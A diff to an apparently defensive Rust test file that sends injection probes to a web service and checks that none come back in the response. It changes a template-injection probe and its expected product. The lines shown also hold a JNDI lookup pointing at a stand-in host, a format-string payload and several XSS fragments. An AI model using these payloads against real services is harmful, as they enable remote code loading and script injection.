@@ -30,7 +30,7 @@ fn strings() -> Vec<String> {
         "<!--",
         "]]>",
         // Templates and formats
-        "{{ 7*191 }}{% raw %}${7*191}#{7*191}",
+        "{{ 4111*4111 }}{% raw %}${4111*4111}#{4111*4111}",
         "%s%s%n%x",
         "{0}{}",
         "${jndi:ldap://nasty.example/a}",
@@ -89,7 +89,7 @@ fn is_calm(answer: &Answer, what: &str) {
     assert!(!answer.headers.contains_key("x-nasty"), "{what}: a header got in");
     if answer.header("content-type").starts_with("text/html") {
         let page = answer.text();
-        for out in ["<img src=x", "<script>nasty", "<svg/onload", "' autofocus", "\" onerror", "1337"] {
+        for out in ["<img src=x", "<script>nasty", "<svg/onload", "' autofocus", "\" onerror", "16900321"] {
             assert!(!page.contains(out), "{what}: {out} got out\n{page}");
         }
     }
